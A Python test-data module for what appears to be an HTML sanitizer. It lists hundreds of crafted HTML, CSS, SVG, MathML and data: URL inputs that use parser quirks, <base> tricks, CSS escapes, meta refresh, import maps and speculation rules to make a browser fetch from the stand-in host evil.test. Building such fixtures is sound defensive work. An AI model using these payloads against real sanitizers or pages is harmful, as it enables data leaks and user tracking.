"""Inputs that leak in a browser where a tree may not show it, and their like; they name evil.test.

Second `<base>` elements, what the preload scanner reads (it has no tree, and lets the last of two equal
attributes win), data: URLs with a charset or of XML, strings that style sheets carry to where they load.
"""

# ruff: noqa: RUF001

from __future__ import annotations

from base64 import b64encode


def _data(type: str, text: str, encoding: str = "") -> str:
    """A data: URL of `text`: in base64 if an encoding is named, which the type may name as well."""
    if encoding:
        return f"data:{type};base64,{b64encode(text.encode(encoding)).decode()}"
    return f"data:{type},{text}"


def _quoted(url: str) -> str:
    return url.replace("&", "&amp;").replace('"', "&quot;")


def _frame(type: str, text: str, encoding: str = "") -> str:
    return f'<iframe src="{_quoted(_data(type, text, encoding))}"></iframe>'


def _link(type: str, text: str, encoding: str = "") -> str:
    return f'<link rel=stylesheet href="{_quoted(_data(type, text, encoding))}">'


def _script(type: str, text: str, encoding: str = "") -> str:
    return f'<script src="{_quoted(_data(type, text, encoding))}"></script>'


BASES = [
    '<table><tr><td><base href="/own/"></td></tr><base href="https://evil.test/"></table><img src="x.png">',
    '<div><template shadowrootmode="open"><base href="/x/"></template></div>'
    '<base href="https://evil.test/"><img src="a.png">',
    '<base href="/x/"><base href="https://evil.test/"><img src="a.png">',
    '<svg xml:base="https://evil.test/"><image href="a"/></svg>',
    '<base href="/q/"><iframe srcdoc="<base href=//evil.test/><img src=a>"></iframe>',
    '<img src="/x"><base href=//evil.test/><img src=a srcset="b 1x">',
    "<base href=//evil.test/><img src=a>",
    '<svg><base href="/q/"></svg><base href="//evil.test/"><img src="a">',
    '<template><base href="/q/"></template><base href="//evil.test/"><img src="a">',
    '<base target=x><base href="//evil.test/"><img src="a">',
    '<noscript><base href="/q/"></noscript><base href="//evil.test/"><img src="a">',
    '<select><base href="/q/"></select><base href="//evil.test/"><img src="a">',
    '<select><option><svg><desc><base href="/q/"></desc></svg></select><base href="//evil.test/">'
    '<img src="a">',
    '<base href="/q/"><frameset><frame src="a"></frameset>',
    '<table><tr><td>x</td></tr><base href="//evil.test/"></table><img src="a">',
    '<table><base href="/q/"><base href="//evil.test/"></table><img src="a">',
    '<math><base href="/q/"></math><base href="//evil.test/"><img src="a">',
    '<table><colgroup><base href="/q/"></colgroup></table><base href="//evil.test/"><img src="a">',
    '<body><p><base href="/q/"></p></body></html><base href="//evil.test/"><img src="a">',
    "<script>setTimeout(0)</script>"
    '<iframe srcdoc="&lt;base href=/q/&gt;&lt;table&gt;&lt;tr&gt;&lt;td&gt;&lt;base href=/q/&gt;"></iframe>',
    '<div><template shadowrootmode="closed"><base href="https://www.example.org/"></template></div>'
    '<base href="https://evil.test/"><script src="/a.js"></script>',
    '<!--x--><table><tr><td><base href="/own/"></td></tr><base href="https://evil.test/"></table>'
    '<script src="x.js"></script>',
    '<div><base href="/own/"></div><table><base href="https://evil.test/"><tr></table><img src=a>',
    '<svg><base href="//evil.test/"></svg><img src=a>',
    '<template><base href="//evil.test/"></template><img src=a>',
    '<base href="/q/" href="//evil.test/"><img src=a>',
]

SPECULATION = [
    "<link rel=next rel=stylesheet href=//evil.test/a>",
    "<link rel=canonical rel=preload as=script href=//evil.test/a>",
    '<link rel="canonical" rel="stylesheet" href="https://evil.test/a">',
    '<script type="text/plain" type="text/javascript" src=//evil.test/a></script>',
    '<script type="text/plain" src=//evil.test/a></script>',
    '<script type="application/json" src=//evil.test/a></script>',
    '<script language="vbscript" src=//evil.test/a></script>',
    '<script type="x" language="javascript" src=//evil.test/a></script>',
    "<script language=json src=//evil.test/a></script>",
    '<video poster="/a" poster="//evil.test/a"></video>',
    '<input type="text" type="image" src="https://evil.test/a">',
    "<svg><![CDATA[><script src=//evil.test/a></script>]]></svg>",
    "<svg><style><![CDATA[a>b{} <img src=//evil.test/a>]]></style></svg>",
    "<template><img src=//evil.test/a></template>",
    "<template><img srcset=//evil.test/a></template>",
    "<template><image src=//evil.test/a></template>",
    "<template><picture><source srcset=//evil.test/a><img src=/b></picture></template>",
    "<template><video poster=//evil.test/a></video></template>",
    "<template><svg><image xlink:href=//evil.test/a></svg></template>",
    "<template><svg><feImage href=//evil.test/a /></svg></template>",
    "<template><svg><script href=//evil.test/a></script></svg></template>",
    '<template><svg><style>@import "//evil.test/a";</style></svg></template>',
    "<template><svg><desc><script src=//evil.test/a></script></desc></svg></template>",
    "<template><div><script src=//evil.test/a></script></template>",
    "<template><td><script type=module src=//evil.test/a></script></template>",
    "<template><div><link rel=stylesheet href=//evil.test/a></template>",
    "<template><div><link rel=preload as=image href=//evil.test/a></template>",
    "<template><div><link rel=modulepreload href=//evil.test/a></template>",
    "<template><div><link rel=preconnect href=//evil.test/></template>",
    '<template><div><style>@import "//evil.test/a";</style></template>',
    "<template><div><base href=//evil.test/><img src=a></template>",
    "<template><div><base href=//evil.test/></template><img src=a>",
    "<template><noscript><img src=//evil.test/a></noscript></template>",
    "<template><svg><template></template></svg><img src=//evil.test/a></template>",
    "<svg></template></svg><template><img src=//evil.test/a></template>",
    "</template><template><img src=//evil.test/a></template>",
    "<template><template shadowrootmode=open></template><img src=//evil.test/a></template>",
    "<svg><template/></svg><template><img src=//evil.test/a></template>",
    "<template><div><template shadowrootmode=open><img src=//evil.test/a></template></div></template>",
    "<svg><input type=image src=//evil.test/a></svg>",
    "<svg><video poster=//evil.test/a></video></svg>",
    "<svg><script src=//evil.test/a></script></svg>",
    "<svg><image src=//evil.test/a></image></svg>",
    "<math><script src=//evil.test/a></script></math>",
    "<svg><picture><source srcset=//evil.test/a><image src=/b></picture></svg>",
    '<style type=text/plain>@import "//evil.test/a";</style>',
    '<style>/* @import "//evil.test/a"; */</style>',
    '<style>@import url("/b") ; @charset "//evil.test/a"; @import x"//evil.test/b";</style>',
    "<frameset><img src=//evil.test/a></frameset>",
    '<style>@import url(/b);@namespace "//evil.test/a";</style>',
    "<style>@import \\url(//evil.test/a)@charset ;@layer ;</style>",
    "<style>@import //evil.test/a;</style>",
    "<style>@IMPORT https://evil.test/a</style>",
    "<style>@import /\\evil.test/a;</style>",
    '<style>@import //evil.test/"a";</style>',
    '<style>@import "\\\\evil.test/a";</style>',
    '<style>@import "\\/evil.test/a";</style>',
    "<style>@import url(\\/evil.test/a);</style>",
    "<style>@layer x\";@import '//evil.test/a';\"</style>",
    "<style>@layer x/*;@import '//evil.test/a';*/</style>",
    "<style>@charset ';@import \"//evil.test/a\";';</style>",
    "<style>@x';@import url(//evil.test/a);';</style>",
    '<style>/"@import //evil.test/a;</style>',
    "<svg><style>@import //evil.test/a;</style></svg>",
    "<script type=importmap src=//evil.test/a></script>",
    "<script type=text/plain type=importmap src=//evil.test/a></script>",
    "<svg><textarea></svg><img src=//evil.test/a></textarea></svg>",
    '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'"><img src=//evil.test/a>',
    "<math><![CDATA[<style>]]><![CDATA[</style><img src=//evil.test/a>]]></math>",
]

DUPLICATES = [
    "<input type=IMAGE src=//evil.test/a>",
    '<input type="text" type=image src=//evil.test/a><input src=//evil.test/b type=&#105;mage>',
    '<link rel="next&#32;stylesheet" href=//evil.test/a>',
    '<link rel=next rel=stylesheet href=//evil.test/a><link rel="NEXT\x0cSTYLESHEET" href=//evil.test/b>',
    '<link a="x"rel="stylesheet" rel="next" href=//evil.test/a>',
    '<link/rel="stylesheet" rel="next" href=//evil.test/a>',
    '<link =rel="next" rel="stylesheet" href=//evil.test/a>',
    '<link a= rel="next" rel="stylesheet" href=//evil.test/a>',
    '<img src="/a"srcset="//evil.test/x"src=//evil.test/b>',
    '<<img src="//evil.test/a">img src="//evil.test/b">',
    '<<script src="//evil.test/a"></script>script src="//evil.test/b"></script>',
    '<!<img src="//evil.test/a">-- ><img src=//evil.test/b>',
    '<p style="color:red" style="background:url(//evil.test/a)">'
    '<p style="background:url(//evil.test/a)" style="background:url(//evil.test/b)">x',
    '<img =src="/a" src=//evil.test/a>',
    '<img "src="/a" src=//evil.test/a>',
]

_IMAGE = '<img src="https://evil.test/a">'
_IMPORT = "@import 'https://evil.test/a';"
_MODULE = "import('https://evil.test/a')"
_XHTML = "<html xmlns='http://www.w3.org/1999/xhtml'>"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.test/a'/></svg>"
_PLAYLIST = "%23EXTM3U%0A%23EXTINF:1,%0Ahttps://evil.test/a.ts"

DATA_URLS = [
    _frame("text/html;charset=utf-16le", _IMAGE, "utf-16-le"),
    _frame("text/html", f"\ufeff{_IMAGE}", "utf-16-le"),
    _frame("text/html;charset=iso-2022-jp", "%1B(J<img src=%22https://evil.test/a%22>"),
    _link("text/css;charset=utf-16le", _IMPORT, "utf-16-le"),
    _script("text/javascript;charset=utf-16le", _MODULE, "utf-16-le"),
    f'<object data="{_data("image/svg+xml;charset=utf-16le", _SVG, "utf-16-le")}"></object>',
    f"<style>@import url({_data('text/css;charset=utf-16le', _IMPORT, 'utf-16-le')});</style>",
    f'<script>import("{_data("text/javascript;charset=utf-16le", _MODULE, "utf-16-le")}")</script>',
    _frame("application/mathml+xml", f"{_XHTML}<img src='https://evil.test/x'/></html>"),
    _frame("application/rss+xml", f"{_XHTML}<img src='https://evil.test/x'/></html>"),
    _frame("application/xhtml+xml", f"{_XHTML}<textarea><img src='https://evil.test/x'/></textarea></html>"),
    _frame("text/xml", "<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='https://evil.test/x'/>"),
    _frame("text/xml", "<?xml-stylesheet type='text/css' href='https://evil.test/x.css'?><x/>"),
    _frame("text/xml", "<?xml-stylesheet type='text/xsl' href='https://evil.test/x.xsl'?><x/>"),
    _frame(
        "text/xml",
        "<!DOCTYPE x [<!ENTITY a 'https://evil.test/'>]>"
        "<img xmlns='http://www.w3.org/1999/xhtml' src='&a;'/>",
    ),
    _frame(
        "image/svg+xml",
        "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:image href='https://evil.test/x'/></s:svg>",
    ),
    _frame(
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:y='http://www.w3.org/1999/xlink'>"
        "<image y:href='https://evil.test/x'/></svg>",
    ),
    _script("", _MODULE),
    _script("text/html", _MODULE),
    _script("text/plain", _MODULE),
    _script("text/javascript", _MODULE),
    _script("application/json", _MODULE),
    "<script type=module src=\"data:text/javascript,import 'https://evil.test/x'\"></script>",
    f'<script type=module>import s from "{_data("text/css", _IMPORT)}" with {{type: "css"}}</script>',
    _link("", _IMPORT),
    f'<style>@import "{_data("text/css", _IMPORT)}";</style>',
    f'<video src="{_data("application/vnd.apple.mpegurl", _PLAYLIST)}"></video>',
    f'<video src="{_data("application/vnd.apple.mpegurl", _PLAYLIST)}%0A%23EXT-X-ENDLIST"></video>',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\">",
    "<iframe src=\"javascript:'&lt;img src=//evil.test/a&gt;'\"></iframe>",
    "<iframe src=\"javascript:'<img src=//evil.test/a>'\"></iframe>",
]

_SET = 'background:image-set({} "https://evil.test/b" 1x)'
_NO_VALUE = "html{--e: }"

ODD_STYLES = [
    *(
        f"<style>{sheet}</style><a>xx</a>"
        for sheet in (
            'a{a:url(x \\) " ) ; background:url(//evil.test/b)}',
            'a{a:u\\72l(x \\) " ) ; background:url(//evil.test/b)}',
            'a{a:url(x\\\ny\\) " ) ; background:url(//evil.test/b)/*" )*/}',
            "a{a:url(x ( ) ; background:url(//evil.test/b)}",
            'a{a:url(x\x01y\\) " ) ; background:url(//evil.test/b)}',
            'a{a:#url(/*)"*/;background:url(//evil.test/b)}/*"*/',
            'a{a:@url(/*)"*/;background:url(//evil.test/b)}/*"*/',
            'a{--\0:"https://evil.test/b";background:image-set(var(--\0) 1x)}',
            'a{--x\0y:"https://evil.test/b";background:image-set(var(--x\ufffdy) 1x)}',
            'a{--x:"a\n;--y:"https://evil.test/b";background:image-set(var(--y) 1x)}',
            *(
                f"{_NO_VALUE}a{{{_SET.format(f'var(--e,{value})')}}}"
                for value in ("{}", "{;}", "[;]", "[}]", "(;)")
            ),
            f"{_NO_VALUE}a{{--x:var(--e,[;]) 'https://evil.test/b';background:image-set(var(--x) 1x)}}",
            'a{background:image-set(if(media(print):"a";else:"https://evil.test/b") 1x)}',
            'a{background:if(style(--x:{;}):x;else:image-set("https://evil.test/b" 1x))}',
            *(
                f"@function --f(--a){{--b:var(--a);result:image-set(var(--b) 1x)}}a{{background:{call}}}"
                for call in (
                    '--f("https://evil.test/b")',
                    '--f({"https://evil.test/b"})',
                    '--f(if(else:"https://evil.test/b"))',
                    'var(--n,--f("https://evil.test/b"))',
                )
            ),
            '@function --f\0(--a){result:image-set(var(--a) 1x)}a{background:--f\0("https://evil.test/b")}',
            '@\\66unction --f(--a:"https://evil.test/b"){result:image-set(var(--a) 1x)}a{background:--f()}',
            '@import [;];@import "//evil.test/b";',
            '@import url(x \\) " ) ;@import url(//evil.test/b);',
            '@namespace x url(/x \\) " );@import url(//evil.test/b);',
            "a{color:red; ) ] } a{background:url(//evil.test/b)}",
        )
    ),
    '<p style="a:url(x \\) &quot; ) ; background:url(//evil.test/b)">x',
    "<p style='a:url(x \\) \" ) ; background:url(//evil.test/b)'>x",
    "<svg><style>a{a:url(x \\) &quot; ) ; background:url(//evil.test/b)}</style></svg><a>xx</a>",
    '<svg><rect fill="url(x \\) &quot; ) url(//evil.test/b#c)" width=9 height=9 /></svg>',
]

STYLES = [
    '<style>a{background:image-set(var(--nope, "https://evil.test/a.png") 1x)}</style><a>xx</a>',
    "<p style='background:image-set(var(--nope, \"https://evil.test/a.png\") 1x)'>",
    '<style>a{background:image-set(env(nope, "https://evil.test/a.png") 1x)}</style><a>xx</a>',
    '<style>@property --x{syntax:"*";inherits:false;initial-value:"https://evil.test/a.png"}'
    "a{background:image-set(var(--x) 1x)}</style><a>xx</a>",
    '<style>a{--x/**/:"https://evil.test/a.png";background:image-set(var(--x) 1x)}</style><a>xx</a>',
    '<style>a{-\\2d x:"https://evil.test/a.png";background:image-set(var(--x) 1x)}</style><a>xx</a>',
    '<style>a{\\-\\-x:"https://evil.test/a.png";background:image-set(var(--x) 1x)}</style><a>xx</a>',
    '<style>a{--x:"https://evil.test/a.png";background:image-set(var(--x) 1x)}</style><a>xx</a>',
    '<style>a{--x:foo(;) "https://evil.test/a.png";background:image-set(var(--x) 1x)}</style><a>xx</a>',
    '<style>@function --f(){result:"https://evil.test/a.png"}a{background:image-set(--f() 1x)}</style>'
    "<a>xx</a>",
    '<style>a{background:-moz-image-rect("https://evil.test/a.png",0,0,1,1)}</style><a>xx</a>',
    '<style>a{background:image-set(("https://evil.test/a.png") 1x)}</style><a>xx</a>',
    '<style>a::before{content:"https://evil.test/"}</style><a>xx</a>',
    '<style>a{--x:"https://evil.test/";content:var(--x)}</style><a>xx</a>',
    '<p style="background:u\\72l(//evil.test/a)">x',
    '<p style="background:\\75 rl(//evil.test/a)">x',
    '<style>@\\69mport "//evil.test/a";</style>',
    '<style>@import/**/"//evil.test/a"</style>',
    "<style>@import\r\nurl(//evil.test/a)</style>",
    "<p style=\"background:-WEBKIT-IMAGE-SET('//evil.test/a' 1x)\">x",
    "<p style=\"background:image-se\\74('//evil.test/a' 1x)\">x",
    '<p style="background:rgb(0,0,0) url( //evil.test/a )">x',
    '<ul style="list-style:url(//evil.test/a)"><li>x</ul>',
    '<p style="--a:url(//evil.test/a);background:var(--a)">x',
    "<style>p{background:url(//evil.test/\x00a)}</style><p>x",
    "<style><!-- @import url(//evil.test/a); --></style>",
    "<style>@namespace url(//evil.test/a); p{background:url(//evil.test/b)}</style><p>x",
    "<style>@namespace x{} @import url(//evil.test/a);</style><p>x",
    "<style>p{@namespace a;background:url(//evil.test/b)}</style><p>x",
    "<style>p{--x:/@namespace}q{} p{background:url(//evil.test/b)}</style><p>x",
    "<style>@supports (background:url(x)){p{background:url(//evil.test/b)}}</style><p>x",
    '<style>p{content:"\n;background:url(//evil.test/b)}</style><p>x',
    '<style>p{a:"\\\n";background:url(//evil.test/b)}</style><p>x',
    '<style>p{a:/*"*/;background:url(//evil.test/b)}/*"*/</style><p>x',
    '<style>p{a:url(x"y);background:url(//evil.test/b)}</style><p>x',
    "<style>p{a:url(x \\) ;b:url(y);background:url(//evil.test/b)}</style><p>x",
    '<style>p{a:url(x " );background:url(//evil.test/b);/*")*/}</style><p>x',
    '<style>@layer a;@import "//evil.test/a" layer(b);</style>',
    '<style>@import "/x.css";@import "//evil.test/a"</style>',
    '<style>@import "/x.css" "//evil.test/a";@import url(//evil.test/b) screen;</style>',
    "<style>@media screen{p{background:url(//evil.test/b)}}</style><p>x",
    "<style>@font-face{font-family:q;src:url(//evil.test/f)}p{font-family:q}</style><p>x",
    '<p style="cursor:url(//evil.test/b),auto">x',
    "<style>p{background:a--url(x),url(//evil.test/b)}</style><p>x",
    "<style>p{--a:x--url(//evil.test/b);background:url(//evil.test/b)}</style><p>x",
    "<body background=//evil.test/a>",
    "<p><body background=//evil.test/a>",
    "<table background=//evil.test/a><tr background=//evil.test/b><td background=//evil.test/c>x</table>",
    "<div background=//evil.test/a>",
    '<p style="background:-webkit-cross-fade(url(//evil.test/a),url(/b),50%)">x',
    '<style>a{background:image-set(if(else: "https://evil.test/i") 1x)}</style><a>xx</a>',
    '<a style="background:image-set(attr(title) 1x)" title="https://evil.test/q">xx</a>',
    '<style>a{--y:var(--z,"https://evil.test/q");background:image-set(var(--y) 1x)}</style><a>xx</a>',
    '<style>a{background:-webkit-image-set(var(--z,"https://evil.test/q") 1x)}</style><a>xx</a>',
    '<style>a::before{content:image-set(var(--z,"https://evil.test/q") 1x)}</style><a>xx</a>',
    "<a style=\"--q:'https://evil.test/q';background:image-set(var(--q) 1x)\">xx</a>",
    # Of one engine each.
    '<p style="background:-moz-element(#x),url(//evil.test/a)">x',
    "<p style=\"background:image-set('//evil.test/a' type('image/png') 1x)\">x",
    "<p style=\"background:-webkit-filter('//evil.test/a',blur(1px))\">x",
    "<p style=\"background:cross-fade('//evil.test/a' 50%,url(/b))\">x",
    '<p style="-webkit-mask-box-image:url(//evil.test/a)">x',
    '<p style="-webkit-box-reflect:below 1px url(//evil.test/a)">x',
    '<p style="float:left;width:9px;height:9px;shape-outside:url(//evil.test/a)">x',
    "<p style=\"background:src('//evil.test/a')\">x",
    "<style>@-moz-document url(//evil.test/a),domain(x){p{color:red}}</style><p>x",
    '<style>@font-face{font-family:q;src:local("no"),url(//evil.test/a)}p{font-family:q}</style><p>x',
    "<link rel=stylesheet type=text/xsl href=//evil.test/a>",
    "<link rel=mask-icon href=//evil.test/a><link rel=apple-touch-icon href=//evil.test/b>",
    "<link rel=preload as=track href=//evil.test/a><link rel=preload as=video href=//evil.test/b>",
    "<table><colgroup background=//evil.test/a></colgroup><tr><td>x</table>",
    "<script type='module ' src=//evil.test/a></script>",
    "<svg:script xlink:href=//evil.test/a></svg:script><portal src=//evil.test/b></portal>",
    "<menu><menuitem icon=//evil.test/a></menuitem></menu>",
]

SCRIPTS = [
    '<script type=module>import"//evil.test/a"</script>',
    '<script type=module>export * from "/x.js";import{a}from\n"https:\\/\\/evil.test/a"</script>',
    "<script>import(`//evil.test/a`)</script>",
    '<script>import/**/(/**/"//evil.test/a")</script>',
    '<script>import("//evil.test/"+"a")</script>',
    "<script><!--<script></script><img src=//evil.test/a>--></script><img src=//evil.test/b>",
    '<script src="/a.js"></script ><script src=//evil.test/a></script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.test/a"]}]}</script>',
]

_LIST = '"prefetch":[{"source":"list","urls":["https://evil.test/a"]}]'
_IMMEDIATELY = '"eagerness":"immediate"'
_TO_OWN_PATHS = '{"prefetch":[{"where":{"href_matches":"/*"},' + _IMMEDIATELY + "}]}"

RULES = [
    *(
        f"<script type=speculationrules>{text}</script>"
        for text in (
            '{"x":"\\v",' + _LIST + "}",
            '{"x":"\0",' + _LIST + "}",
            '{"\0":1,' + _LIST + "}",
            '{"\\u0000":1,' + _LIST + "}",
            '{"x":"\x0b",' + _LIST + "}",
            '{"x":[}],' + _LIST + "}",
            '{"x":"\\ud800",' + _LIST + "}",
            '{"prefetch":[],' + _LIST + "}",
            "{" + _LIST + ',"prefetch":[]}',
            "\ufeff{" + _LIST + "}",
            "{" + _LIST + ",}",
            "/**/{" + _LIST + "}",
        )
    ),
    f"<base href=//evil.test/><script type=speculationrules>{_TO_OWN_PATHS}</script><a href=q>x</a>",
    f"<script type=speculationrules>{_TO_OWN_PATHS}</script><base href=//evil.test/><a href=q>x</a>",
    "<base href=//evil.test/><script type=speculationrules>"
    '{"prefetch":[{"where":{"href_matches":{"pathname":"/*"}},'
    + _IMMEDIATELY
    + "}]}</script><a href=q>x</a>",
    '<script type=speculationrules>{"prefetch":[{"where":{"href_matches":"/*","href_matches":"*://*/*"},'
    + _IMMEDIATELY
    + '}]}</script><a href="//evil.test/a">x</a>',
    *(
        f"<script type=importmap>{text}</script><script type=module>import 'a'</script>"
        for text in (
            '{"imports":{"a":"https://evil.test/a"},"x":"\\v"}',
            '{"imports":{"a":"https://evil.test/a"},"x":"\0"}',
            '{"imports":{"a":"/a","\\u0061":"https://evil.test/a"}}',
            '{"x":[}],"imports":{"a":"https://evil.test/a"}}',
            '\ufeff{"imports":{"a":"https://evil.test/a"}}',
            '{"imports":{"a":"/a"},"imports":{"a":"https://evil.test/a"}}',
        )
    ),
    '<script type=webbundle>{"source":"https://evil.test/a.wbn","resources":["https://evil.test/a.js"]}</script>'
    '<script src="https://evil.test/a.js"></script>',
]

REFRESHES = [
    f'<meta http-equiv=refresh content="{content}">'
    for content in (
        "0;url='https://www.example.org'@evil.test/'",
        "0;url=&quot;https://www.example.org&quot;@evil.test/&quot;",
        "0;url='https://www.example.org'@evil.test/",
        "0;url='/a' //evil.test/'",
        *(
            form.format(space)
            for space in ("&#11;", "&#28;", "&#5760;", "&#8192;", "&#8195;", "&#8232;", "&#8287;", "&#12288;")
            for form in ("0;url={}//evil.test/", "0{};url=//evil.test/", "{}0;url=//evil.test/")
        ),
        "0;url='&#5760;//evil.test/'",
        "0;url=https://www.example.org&#8195;@evil.test/",
        "0;url=https://www.example.org\\@evil.test/",
    )
]

FOREIGN = [
    '<math><mtext><mglyph src="https://evil.test/a"></mtext></math>',
    "<svg><style><img src=//evil.test/a></style></svg>",
    "<math><textarea><img src=//evil.test/a></textarea></math>",
    "<svg></p><style><img src=//evil.test/a></style>",
    "<svg><desc><style></desc><img src=//evil.test/a></style></svg>",
    "<math><mi><svg><mi><style><img src=//evil.test/a></style></svg>",
    '<math><annotation-xml encoding="text/html"><style><img src=//evil.test/a></style>'
    "</annotation-xml><style><img src=//evil.test/b></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=//evil.test/a>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=//evil.test/a&gt;">'
    "<img src=//evil.test/b>",
    "<svg><font color=x><style><img src=//evil.test/a></style></svg>",
    "<svg><font><style><img src=//evil.test/a></style></svg>",
    "<svg><![CDATA[><img src=//evil.test/a>]]></svg>",
    "<![CDATA[><img src=//evil.test/a>]]>",
    "<svg><desc><![CDATA[><img src=//evil.test/a>]]></desc></svg>",
    "<svg><template><image href=//evil.test/a></template></svg>",
    "<svg><template><p></template><img src=//evil.test/a>",
    '<img src="//www.example.org\\@evil.test/a"><img src="https://www.example.org:80@evil.test/a">',
    "<svg><script xlink:href=//evil.test/a /></svg>",
    '<svg><image><animate attributeName=href values="//evil.test/a"/></image></svg>',
    '<svg><image><set attributeName="xlink:href" to="//evil.test/a"/></image></svg>',
    '<svg><rect width=9 height=9><animate attributeName=fill values="url(//evil.test/a#x)"/></rect></svg>',
    '<svg><rect width=9 height=9><set attributeName=mask to="url(//evil.test/a#x)"/></rect></svg>',
    '<svg><rect width=9 height=9 mask="url(//evil.test/a#x)"/></svg>',
    '<svg><rect style="mask-image:url(//evil.test/a)" width=9 height=9 /></svg>',
    '<svg><use href="//evil.test/a#b"/></svg>',
    "<svg><filter id=f><feImage href=//evil.test/a /></filter>"
    '<rect filter="url(#f)" width=9 height=9 /></svg>',
    "<svg><rect width=9 height=9 fill=\"url('//evil.test/a#b')\"/></svg>",
    '<svg class="a"><path d="M0"/></svg><img src=//evil.test/a>',
    '<svg/><path><use href="//evil.test/a"/></svg>',
    '<svg><g><use href="/a"></use><image href="//evil.test/a"/></g></svg>',
    '<svg><rect clip-path="url(//evil.test/a#b)" width=9 height=9 /></svg>',
    '<svg><path d="M0 0L9 9" marker-end="url(//evil.test/a#b)" /></svg>',
    '<svg><path d="M0 0L9 9" marker="url(//evil.test/a#b)" /></svg>',
    '<svg><rect mask-image="url(//evil.test/a)" background-image="url(//evil.test/b)"'
    ' list-style-image="url(//evil.test/c)" width=9 height=9 /></svg>',
    '<svg><text><textPath href="//evil.test/a#b">x</textPath></text></svg>',
    '<svg><linearGradient id=a href="//evil.test/a#b"/><rect fill="url(#a)" width=9 height=9 /></svg>',
    '<math><mi href="//evil.test/a">x</mi></math>',
    "<title><svg></title><img src=//evil.test/a>",
]

TEXT = [
    '<div><template shadowroot="open"><img src="https://evil.test/a"></template></div>',
    "<noscript><!--</noscript><img src=//evil.test/a>--></noscript>",
    '<noscript><a title="</noscript><img src=//evil.test/a>"></noscript>',
    "<select><svg></select><style><img src=//evil.test/a></style>",
    "<select><textarea></select><img src=//evil.test/a></textarea>",
    "<select><xmp><img src=//evil.test/a></xmp></select>",
    "<frameset><frame src=//evil.test/a></frameset>",
    "<frameset><template><frame src=//evil.test/a></frameset>",
    "<frameset><noframes><frame src=//evil.test/a></noframes></frameset>",
    "<template><div></template><img src=//evil.test/a>",
    "<template><template></template><img src=/x></template></template><img src=//evil.test/a>",
    "<template><svg></template><img src=//evil.test/a>",
    "<p><template shadowrootmode=&#111;pen><img src=//evil.test/a></template>",
    "<p><template shadowrootmode=open shadowrootmode=x><img src=//evil.test/a></template>",
    "<table><template><tr></template><tr><td background=//evil.test/a></table>",
    "<select><plaintext></select><img src=//evil.test/a>",
    "<svg><plaintext><image href=//evil.test/a></svg>",
    '<img\nsrc\n=\n"\t//evil\n.te\tst/a">',
    "<IMG SRC=//EVIL.TEST/a>",
    '<img src="&#x2f;&sol;evil&period;test/a">',
    "<im\x00g src=//evil.test/a><img \x00src=//evil.test/b sr\x00c=//evil.test/c>",
    "<!--><img src=//evil.test/a>--><!---><img src=//evil.test/b>",
    "<!-- --!><img src=//evil.test/a>",
    "<!-- <!-- --><img src=//evil.test/a>",
    '<!doctype a "><img src=//evil.test/a>">',
    "<img data-src=//evil.test/a>",
    "<form><table><form><img src=//evil.test/a>",
]

ELEMENTS = [
    '<model src="https://evil.test/a"></model>',
    '<object data="/x"><param name="src" value="https://evil.test/"></object>',
    '<object type="text/html"><param name="movie" value="https://evil.test/a"></object>',
    "<object><PARAM value=//evil.test/a NAME=URL><p>x</object>",
    '<object><param name=a name=src value="data:text/html,<img src=https://evil.test/a>"></object>',
    '<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000"><p>fallback</p></object>',
    '<meta http-equiv="refresh" content="10">',
    '<a href="https://evil.test/">x</a>',
    '<script src="/a.js" href="#x"></script>',
    '<img src="\\\\evil.test\\a">',
    '<img src="https:evil.test/a">',
    '<img src="https:/evil.test/a">',
    '<img src="//ｅvil.test/a">',
    '<img src="//%65vil.test/a">',
    '<img src="//ev\xadil.test/a">',
    '<img src=/a srcset="/b 1x, //evil.test/a 2x">',
    '<img srcset=",,/b (,//evil.test/x) 1x,//evil.test/a 2x">',
    '<img src=/q srcset="data:,a ( , ) 1x, //evil.test/a 2x">',
    "<picture><source srcset=//evil.test/a><img src=/a></picture>",
    "<meta http-equiv=REFRESH content=\"0;URL='//evil.test/a'\">",
    '<meta http-equiv=refresh content="0 //evil.test/a">',
    '<meta http-equiv=refresh content=".;,url=//evil.test/a">',
    '<meta content="0, url \t=\n//evil.test/a" http-equiv="refres&#104;">',
    '<meta http-equiv=refresh content="0;\'//evil.test/a">',
    '<link rel="next" href=//evil.test/a>',
    '<link rel="next nofollow" href=//evil.test/a>',
    '<link rel="alternate preconnect" href=//evil.test>',
    "<svg><link rel=stylesheet href=//evil.test/a></svg>",
    "<iframe srcdoc=\"&lt;iframe srcdoc='&amp;lt;img src=//evil.test/a&amp;gt;'&gt;\"></iframe>",
    "<embed src=//evil.test/a><object data=//evil.test/b></object>",
    "<video src=//evil.test/a poster=//evil.test/b></video><audio src=//evil.test/c></audio>",
    "<image src=//evil.test/a>",
    "<svg><image src=/x href=//evil.test/a></svg>",
    '<noscript><base href="//evil.test/"></noscript><img src="a">',
    '<a href=/x ping="//evil.test/a">x</a>',
    '<object data="//evil.test/a"><img src="//evil.test/b"></object>',
    "<select><iframe src=//evil.test/a></iframe></select>",
    "<select><option><img src=//evil.test/a></select>",
    "<html manifest=//evil.test/a><link rel=manifest href=//evil.test/b>",
    "<isindex action=//evil.test/a><keygen><nobr><img src=//evil.test/a>",
    '<iframe src="intent://evil.test/a#Intent;scheme=https;S.browser_fallback_url=https%3A%2F%2Fevil.test;end">'
    "</iframe>",
    "<model src=//evil.test/a><source src=//evil.test/b></model>",
]

# Sections of text below elements of SVG and MathML that take HTML: the section is one all the same.
SECTIONS = [
    *(
        f'<{root}><{name}><![CDATA[><a title="]]><link rel=preconnect href=//evil.test/a>">'
        for root, names in {
            "svg": ("desc", "title", "foreignObject", "g", "desc><p></p", "desc><br", "desc><p", "a"),
            "math": ("mi", "mo", "mn", "ms", "mtext", "annotation-xml encoding=text/html", "mrow"),
        }.items()
        for name in names
    ),
    '<template><svg><desc><![CDATA[><a title="]]></template><img src=//evil.test/a>">',
    '<svg><foreignObject><select><![CDATA[><a title="]]><img src=//evil.test/a>">',
